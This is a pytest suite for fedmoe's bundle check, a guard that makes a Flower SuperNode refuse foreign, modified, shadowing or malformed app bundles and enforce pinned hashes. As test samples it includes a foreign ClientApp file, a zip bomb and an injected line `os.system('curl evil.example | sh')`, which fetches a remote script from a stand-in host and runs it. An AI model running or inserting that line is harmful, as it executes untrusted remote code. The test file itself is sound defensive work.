"""A site runs only fedmoe's own app bundle (fedmoe.client.bundle_check, hooked into
Flower's SuperNode by fedmoe.client.supernode).

Bundles are built in memory the way `flwr run` builds them (flwr.cli.build), or, for
malformed ones, zipped by hand. The last tests drive Flower 1.42's own
`_pull_and_store_message` (a real in-memory NodeState and ObjectStore) through the hook.
"""

from __future__ import annotations

import hashlib
import inspect
import io
import logging
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import tomli_w

from fedmoe.client import supernode
from fedmoe.client.bundle_check import ForeignBundle, check_bundle, installed_path, parse_hashes
from fedmoe.shared.errors import FedmoeError

ROOT = Path(__file__).resolve().parents[1]
REFERENCE = {"client/client_app.py": ROOT / "client" / "client_app.py",
             "server/federation/server_app.py": ROOT / "server" / "federation" / "server_app.py"}

FOREIGN_CLIENT = """
from flwr.clientapp import ClientApp

client = ClientApp()

@client.query()
def leak(msg, context):
    raise SystemExit("a foreign ClientApp ran next to the site's data")
"""


def manifest(**components) -> dict:
    from fedmoe.server.federation.coordinator import APP_CONFIG, app_pyproject

    config = app_pyproject(APP_CONFIG)
    config["tool"]["flwr"]["app"]["components"].update(components)
    return config


def build(config: dict, files: dict | None = None) -> bytes:
    """A bundle as `flwr run` builds it from an app folder holding these files."""
    from flwr.cli.build import build_fab_from_files

    return build_fab_from_files({"pyproject.toml": tomli_w.dumps(config).encode(), **(files or {})})[0]


def hand_zip(entries: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in entries:
            zf.writestr(name, data)
    return buf.getvalue()


def tomllib_load(path: Path) -> dict:
    import tomllib

    return tomllib.loads(path.read_text())


def coordinator_bundle() -> bytes:
    return build(manifest())


def checkout_bundle() -> bytes:
    """`flwr run .` from a checkout: the repository's pyproject.toml and its fab-include files."""
    from flwr.cli.build import build_fab_from_files

    return build_fab_from_files({"pyproject.toml": ROOT / "pyproject.toml", **REFERENCE})[0]


# ---- the check on bundle bytes ---------------------------------------------------------

def test_fedmoe_own_bundles_pass():
    for fab in (coordinator_bundle(), checkout_bundle()):
        assert zipfile.ZipFile(io.BytesIO(fab)).namelist()  # a real zip
        assert check_bundle(fab) == hashlib.sha256(fab).hexdigest()
    names = set(zipfile.ZipFile(io.BytesIO(checkout_bundle())).namelist())
    assert names == {"pyproject.toml", ".info/CONTENT", *REFERENCE}  # the check sees what Flower would install


def test_run_config_defaults_are_data_not_code():
    config = manifest()
    config["tool"]["flwr"]["app"]["config"] |= {"rounds": 99, "lr": 0.5}
    config["project"]["version"] = "9.9.9"
    check_bundle(build(config))


def test_installed_copies_are_this_checkouts_files():
    assert installed_path("fedmoe.client.client_app") == REFERENCE["client/client_app.py"]
    assert installed_path("fedmoe.server.federation.server_app") == REFERENCE["server/federation/server_app.py"]


@pytest.mark.parametrize("components, needle", [
    ({"clientapp": "evil:client"}, "clientapp = 'evil:client', not fedmoe's 'fedmoe.client.client_app:app'"),
    ({"clientapp": "fedmoe.client.jobs:app"}, "clientapp = 'fedmoe.client.jobs:app'"),
    ({"serverapp": "evil:app"}, "serverapp = 'evil:app'"),
    ({"agentapp": "evil:agent"}, "agentapp = 'evil:agent', not fedmoe's no such component"),
])
def test_other_components_are_refused(components, needle):
    with pytest.raises(ForeignBundle, match="components") as err:
        check_bundle(build(manifest(**components)))
    assert needle in str(err.value)


def test_a_foreign_clientapp_module_is_refused_even_under_fedmoe_components():
    fab = build(manifest(), {"evil.py": FOREIGN_CLIENT.encode()})
    assert "evil.py" in zipfile.ZipFile(io.BytesIO(fab)).namelist()
    with pytest.raises(ForeignBundle, match=r"extra file 'evil.py'"):
        check_bundle(fab)
    with pytest.raises(ForeignBundle, match=r"extra file 'evil.py'"):  # and with its own ClientApp named
        check_bundle(build(manifest(clientapp="evil:client"), {"evil.py": FOREIGN_CLIENT.encode()}))


@pytest.mark.parametrize("name", ["fedmoe/client/client_app.py", "torch.py", "client/__init__.py", "client/site.py", "README.md"])
def test_modules_that_could_shadow_installed_ones_are_refused(name):
    """Flower puts the installed bundle's folder first on the ClientApp's sys.path."""
    entries = [("pyproject.toml", tomli_w.dumps(manifest()).encode()), (name, b"raise SystemExit('shadowed')\n")]
    with pytest.raises(ForeignBundle, match=f"extra file '{name}'"):
        check_bundle(hand_zip(entries))


def test_a_modified_reference_module_is_refused():
    for rel, path in REFERENCE.items():
        files = {k: p.read_bytes() for k, p in REFERENCE.items()}
        files[rel] += b"\nimport os; os.system('curl evil.example | sh')\n"
        fab = build(tomllib_load(ROOT / "pyproject.toml"), files)
        with pytest.raises(ForeignBundle, match=f"{rel} differs from this site's installed copy"):
            check_bundle(fab)


@pytest.mark.parametrize("entries, needle", [
    ([("pyproject.toml", b"x"), ("pyproject.toml", b"y")], "appears more than once"),
    ([("client/", b"")], "extra file 'client/'"),
    ([("./pyproject.toml", b"")], "extra file './pyproject.toml'"),
    ([(".info/CONTENT", b"")], "no pyproject.toml"),
    ([("pyproject.toml", b"[tool\n")], "not valid TOML"),
    ([("pyproject.toml", b"tool = 3\n")], "no [tool.flwr.app.components]"),
])
def test_malformed_bundles_are_refused_in_one_line(entries, needle):
    with pytest.raises(ForeignBundle) as err:
        check_bundle(hand_zip(entries))
    assert needle in str(err.value) and "\n" not in str(err.value)


def test_not_a_zip_and_a_zip_bomb_are_refused():
    with pytest.raises(ForeignBundle, match="not a zip archive"):
        check_bundle(b"PK\x03\x04 not really")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("pyproject.toml", b"#" * (8 << 20))  # 8 MiB that compresses to a few kB
    assert len(buf.getvalue()) < 100_000
    with pytest.raises(ForeignBundle, match="more than any file of fedmoe's bundle"):
        check_bundle(buf.getvalue())


def test_pinned_hashes():
    fab = coordinator_bundle()
    digest = hashlib.sha256(fab).hexdigest()
    assert check_bundle(fab, parse_hashes([digest.upper()])) == digest
    assert check_bundle(fab, parse_hashes(["0" * 64 + "," + digest])) == digest
    config = manifest()
    config["tool"]["flwr"]["app"]["config"]["rounds"] = 99  # fedmoe's own app, but not the pinned bundle
    with pytest.raises(ForeignBundle, match="is not one of the 1 pinned with --trust-fab-hash"):
        check_bundle(build(config), parse_hashes([digest]))
    with pytest.raises(FedmoeError, match="not a sha256 hex digest"):
        parse_hashes(["abc"])


def test_coordinator_logs_the_digest_flwr_run_submits(tmp_path):
    from fedmoe.server.federation.coordinator import bundle_sha256, write_flwr_home

    app = write_flwr_home(tmp_path / "home", "127.0.0.1:1", None)
    from flwr.cli.build import build_fab_from_disk

    fab = build_fab_from_disk(app)
    assert bundle_sha256(app) == hashlib.sha256(fab).hexdigest() == check_bundle(fab)
    assert bundle_sha256(app) == bundle_sha256(app)  # deterministic: pinnable across starts


# ---- the hook in Flower's SuperNode ----------------------------------------------------

class Link:
    """The SuperLink side of `_pull_and_store_message`: queued messages, runs and bundles."""

    def __init__(self):
        self.queue, self.runs, self.fabs, self.objects, self.fab_downloads = [], {}, {}, {}, 0

    def add_run(self, run_id: int, fab: bytes) -> None:
        from flwr.supercore.fab import Fab
        from flwr.supercore.run import Run

        digest = hashlib.sha256(fab).hexdigest()
        self.fabs[digest] = Fab(digest, fab, {})
        run = Run.create_empty(run_id)
        run.fab_hash, run.fab_id, run.fab_version = digest, "fedmoe/fedmoe", "0.1.0"
        self.runs[run_id] = run

    def send(self, run_id: int) -> str:
        from flwr.app import ConfigRecord, RecordDict
        from flwr.app.message.message import make_message
        from flwr.app.metadata import Metadata
        from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree

        md = Metadata(run_id=run_id, message_id="", src_node_id=1, dst_node_id=5, reply_to_message_id="", group_id="1",
                      created_at=time.time(), ttl=3600, message_type="query")
        msg = make_message(md, RecordDict({"config": ConfigRecord({"n": len(self.queue)})}))
        msg.metadata.__dict__["_message_id"] = msg.object_id
        self.objects |= {k: v.deflate() for k, v in get_all_nested_objects(msg).items()}
        self.queue.append((msg, get_object_tree(msg)))
        return msg.object_id

    def get_fab(self, fab_hash: str, run_id: int):
        self.fab_downloads += 1
        return self.fabs[fab_hash]

    def kwargs(self, state, store) -> dict:
        return dict(state=state, object_store=store, node_config={}, receive=lambda: self.queue.pop(0) if self.queue else None,
                    get_run=self.runs.__getitem__, get_fab=self.get_fab, pull_object=lambda r, o: self.objects[o],
                    confirm_message_received=lambda r, m: None, trusted_entities=None)


@pytest.fixture
def node(monkeypatch):
    """Flower's start_client_internal with fedmoe's hook, a fresh node state, and the flwr log."""
    from flwr.supercore.object_store import ObjectStoreFactory
    from flwr.supernode import start_client_internal as sci
    from flwr.supernode.nodestate import NodeStateFactory

    monkeypatch.setattr(sci, "_pull_and_store_message", sci._pull_and_store_message)  # restored after the test
    factory = ObjectStoreFactory()
    state = NodeStateFactory(factory).state()
    state.set_node_id(5)
    lines: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: lines.append(record.getMessage())
    logging.getLogger("flwr").addHandler(handler)
    try:
        yield sci, state, factory.store(), lines
    finally:
        logging.getLogger("flwr").removeHandler(handler)


def test_the_hooked_function_is_still_flowers():
    """If Flower renames or re-signs it, the hook would silently do nothing: fail here instead."""
    from flwr.supernode import start_client_internal as sci

    params = inspect.signature(sci._pull_and_store_message).parameters
    assert {"state", "object_store", "receive", "get_fab"} <= set(params)
    src = inspect.getsource(sci.start_client_internal)
    assert "_pull_and_store_message(\n" in src and "get_fab=get_fab," in src and "receive=receive," in src
    assert "state.store_fab(fab)" in inspect.getsource(sci._pull_and_store_message)


def test_a_foreign_run_gets_an_error_reply_and_a_legitimate_run_goes_on(node):
    from flwr.common.constant import ErrorCode

    sci, state, store, lines = node
    supernode.guard_bundles(sci)
    link = Link()
    link.add_run(7, build(manifest(clientapp="evil:client"), {"evil.py": FOREIGN_CLIENT.encode()}))
    link.add_run(8, coordinator_bundle())
    first = link.send(7)
    assert sci._pull_and_store_message(**link.kwargs(state, store)) == 7
    assert state.get_run(7) is None and state.get_fab(link.runs[7].fab_hash) is None  # nothing stored: no task to run
    [reply] = state.get_messages_legacy(is_reply=True)
    assert reply.has_error() and reply.error.code == ErrorCode.INVALID_FAB
    assert reply.metadata.reply_to_message_id == first and reply.metadata.run_id == 7
    refusals = [l for l in lines if l.startswith("fedmoe site: refused")]
    assert refusals == ["fedmoe site: refused the app bundle of run 7 (its ClientApp does not run): extra file 'evil.py' "
                        "(fedmoe's bundle carries only pyproject.toml, .info/CONTENT, client/client_app.py, "
                        "server/federation/server_app.py)"]
    state.delete_messages(message_ids=[reply.metadata.message_id])

    link.send(7)  # the foreign run's next message: refused again, without downloading the bundle again
    assert sci._pull_and_store_message(**link.kwargs(state, store)) == 7
    assert link.fab_downloads == 1 and len([l for l in lines if l.startswith("fedmoe site: refused")]) == 2
    [again] = state.get_messages_legacy(is_reply=True)
    state.delete_messages(message_ids=[again.metadata.message_id])

    link.send(8)  # fedmoe's own run on the same SuperNode
    assert sci._pull_and_store_message(**link.kwargs(state, store)) == 8
    assert state.get_run(8) is not None and state.get_fab(link.runs[8].fab_hash) is not None
    assert not state.get_messages_legacy(is_reply=True)  # no error reply: its message waits for the ClientApp
    assert "Received successfully" in lines


def test_pinned_hash_is_read_from_the_environment(node, monkeypatch):
    sci, state, store, lines = node
    monkeypatch.setenv(supernode.TRUST_ENV, "ab" * 32)
    supernode.guard_bundles(sci, supernode.trusted_hashes())
    link = Link()
    link.add_run(9, coordinator_bundle())
    link.send(9)
    assert sci._pull_and_store_message(**link.kwargs(state, store)) == 9
    assert state.get_run(9) is None
    assert any("is not one of the 1 pinned with --trust-fab-hash" in l for l in lines)


@pytest.mark.parametrize("env, argv, needle", [
    ({"FEDMOE_TRUST_FAB_HASH": "nothex"}, ["--help"], "FEDMOE_TRUST_FAB_HASH: --trust-fab-hash: not a sha256"),
    ({}, ["--allow-runtime-dependency-installation"], "--allow-runtime-dependency-installation would install"),
    ({}, ["--allow-runtime"], "--allow-runtime-dependency-installation would install"),
])
def test_the_entry_point_refuses_bad_settings_in_one_line(env, argv, needle):
    proc = subprocess.run([sys.executable, "-m", "fedmoe.client.supernode", *argv], capture_output=True, text=True,
                          timeout=60, env={"PATH": "/usr/bin:/bin", **env})
    assert proc.returncode != 0
    assert proc.stderr.strip().splitlines()[-1].startswith("fedmoe supernode: ") and needle in proc.stderr


def test_site_start_refuses_a_bad_pin(tmp_path, capsys):
    from fedmoe.shared.cli import main

    assert main(["site", "start", "--superlink", "127.0.0.1:1", "--insecure", "--data", str(tmp_path),
                 "--trust-fab-hash", "1234"]) != 0
    assert "--trust-fab-hash: not a sha256 hex digest (64 hex digits): '1234'" in capsys.readouterr().err
